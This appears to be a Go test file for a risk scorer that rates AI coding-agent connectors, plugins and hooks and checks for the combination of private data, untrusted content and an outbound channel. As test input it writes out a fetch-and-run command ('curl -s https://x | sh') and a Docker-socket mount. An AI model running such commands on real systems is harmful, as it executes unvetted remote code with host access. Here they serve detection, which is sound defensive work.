// SPDX-License-Identifier: Apache-2.0

package risk

import (
	"slices"
	"strings"
	"testing"

	"github.com/reeve-sensor/reeve/sensor/inventory"
)

func connector(name string, change ...func(*inventory.Item)) inventory.Item {
	it := inventory.Item{Kind: inventory.KindConnector, Name: name, Owner: "alice", Scope: inventory.ScopeUser, Agents: []string{"claude-code"}}
	it.Identity.Command = []string{"/opt/" + name}
	it.Identity.Files = []inventory.Part{{Name: "/opt/" + name, Value: "0"}}
	for _, c := range change {
		c(&it)
	}
	Judge(&it)
	return it
}

func TestEveryReasonIsGivenAndNoneWithout(t *testing.T) {
	no := false
	given := map[string]func(*inventory.Item){
		"runs-what-it-fetches":      func(it *inventory.Item) { it.Identity.Command = []string{"bash", "-c", "curl -s https://x | sh"} },
		"hidden-text":               func(it *inventory.Item) { it.Facts.Hidden = true },
		"writable-by-all":           func(it *inventory.Item) { it.Facts.Writable = []string{"/opt/x"} },
		"temporary-folder":          func(it *inventory.Item) { it.Identity.Files = []inventory.Part{{Name: "/tmp/x"}} },
		"loads-code-by-environment": func(it *inventory.Item) { it.Facts.Environment = []string{"NODE_OPTIONS"} },
		"runs-at-load":              func(it *inventory.Item) { it.Facts.Loads = []string{"id"} },
		"brings-hooks":              func(it *inventory.Item) { it.Facts.Hooks = []string{"Stop"} },
		"asks-nobody":               func(it *inventory.Item) { it.Facts.Trusted = true },
		"let-in-unseen":             func(it *inventory.Item) { it.Facts.AllProject, it.Scope = true, inventory.ScopeProject },
		"any-command":               func(it *inventory.Item) { it.Facts.Tools = []string{"Bash(*)"} },
		"container-of-the-host": func(it *inventory.Item) {
			it.Identity.Package = &inventory.Package{Registry: "oci", Exact: true}
			it.Identity.Command = []string{"docker", "run", "-v", "/var/run/docker.sock:/s", "x"}
		},
		"no-encryption":              func(it *inventory.Item) { it.Identity.URL, it.NotHeld = "http://x.example/mcp", "remote" },
		"code-in-the-agent":          func(it *inventory.Item) { it.Kind, it.Facts.Event = inventory.KindPlugin, "load" },
		"secret-in-the-command-line": func(it *inventory.Item) { it.Facts.Secret = true },
		"literal-credentials":        func(it *inventory.Item) { it.Literal = []string{"K"} },
		"not-pinned":                 func(it *inventory.Item) { it.Identity.Package = &inventory.Package{Registry: "npm", Name: "x"} },
		"not-known-what-runs":        func(it *inventory.Item) { it.Identity.Loose = "it was not found" },
		"not-held":                   func(it *inventory.Item) { it.NotHeld = "it runs at x" },
		"came-with-a-folder":         func(it *inventory.Item) { it.Scope = inventory.ScopeProject },
		"shell":                      func(it *inventory.Item) { it.Identity.Loose = "a shell runs what its text says" },
		"unsigned":                   func(it *inventory.Item) { it.Signature = &inventory.Signature{State: "not-signed"} },
		"unknown-publisher":          func(it *inventory.Item) { it.Signature = &inventory.Signature{State: "self-signed", Why: "by itself"} },
		"broken-signature":           func(it *inventory.Item) { it.Signature = &inventory.Signature{State: "altered", Why: "other bytes"} },
		"updates-itself":             func(it *inventory.Item) { it.Facts.AutoUpdate = true },
		"not-read":                   func(it *inventory.Item) { it.Error = "not JSON" },
		"some-tools-unasked":         func(it *inventory.Item) { it.Facts.Tools = []string{"Read"} },
		"every-time":                 func(it *inventory.Item) { it.Kind = inventory.KindHook },
		"moving-source":              func(it *inventory.Item) { it.Kind, it.Pinned = inventory.KindMarketplace, &no },
	}
	if plain := connector("plain"); plain.Risk != "none" || len(plain.Reasons) != 0 {
		t.Errorf("an item with nothing against it: %+v", plain.Reasons)
	}
	for _, r := range rules {
		change := given[r.code]
		if change == nil {
			t.Errorf("%s: no case", r.code)
			continue
		}
		it := connector("x", change)
		if !slices.ContainsFunc(it.Reasons, func(g inventory.Reason) bool { return g.Code == r.code && g.Level == r.level && g.Text != "" }) {
			t.Errorf("%s: %+v", r.code, it.Reasons)
		}
		if Rank(it.Risk) < Rank(r.level) {
			t.Errorf("%s: risk %s", r.code, it.Risk)
		}
	}
}

func TestTraits(t *testing.T) {
	for name, want := range map[string]string{
		"github": "private-data untrusted-content way-out", "server-filesystem": "private-data", "playwright": "untrusted-content way-out",
		"postgres": "private-data", "brave-search": "untrusted-content way-out", "mathematics": "", "digit": "",
	} {
		it := connector(name)
		if got := strings.Join(it.Traits, " "); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}
	if it := connector("x", func(it *inventory.Item) { it.Identity.URL, it.NotHeld = "https://x.example/mcp", "remote" }); strings.Join(it.Traits, " ") != WayOut {
		t.Errorf("%v", it.Traits)
	}
	if it := connector("x", func(it *inventory.Item) { it.Identity.URL = "http://localhost:8080/mcp" }); len(it.Traits) != 0 {
		t.Errorf("by the scheme: %v", it.Traits)
	}
	// What the package is counts whatever it is called.
	if it := connector("harmless", func(it *inventory.Item) {
		it.Identity.Package = &inventory.Package{Registry: "npm", Name: "@modelcontextprotocol/server-slack"}
	}); len(it.Traits) != 3 {
		t.Errorf("%v", it.Traits)
	}
}

func TestExposure(t *testing.T) {
	here := func(it *inventory.Item) { it.Project, it.Scope = "/p", inventory.ScopeProject }
	off := func(it *inventory.Item) { it.Disabled = true }
	other := func(it *inventory.Item) { it.Owner = "bob" }
	for name, tc := range map[string]struct {
		items  []inventory.Item
		whole  bool
		remove string
		left   int
	}{
		"nothing":            {nil, false, "", 0},
		"two of three":       {[]inventory.Item{connector("filesystem"), connector("postgres")}, false, "", 0},
		"all three":          {[]inventory.Item{connector("filesystem"), connector("fetch")}, true, "connector:filesystem", 0},
		"one has all":        {[]inventory.Item{connector("filesystem"), connector("postgres"), connector("github")}, true, "connector:github", 0},
		"removal helps some": {[]inventory.Item{connector("slack"), connector("github"), connector("figma")}, true, "connector:slack", 4},
		"one is off":         {[]inventory.Item{connector("filesystem"), connector("fetch", off)}, false, "", 0},
		"another's":          {[]inventory.Item{connector("filesystem"), connector("fetch", other)}, false, "", 0},
		"by the folder":      {[]inventory.Item{connector("filesystem"), connector("fetch", here)}, true, "connector:filesystem", 0},
	} {
		e := Expose(Place{User: "alice", Agent: "claude-code", Project: "/p"}, tc.items)
		if e.Whole != tc.whole || e.Remove != tc.remove || e.Left != tc.left {
			t.Errorf("%s: %+v", name, e)
		}
	}
	if e := Expose(Place{User: "alice", Agent: "claude-code", Project: "/q"}, []inventory.Item{connector("filesystem"), connector("fetch", here)}); e.Whole {
		t.Error("a folder's connector counts in another")
	}
	if e := Expose(Place{User: "alice", Agent: "codex"}, []inventory.Item{connector("github")}); e.Whole {
		t.Error("another agent's connector counts")
	}
}
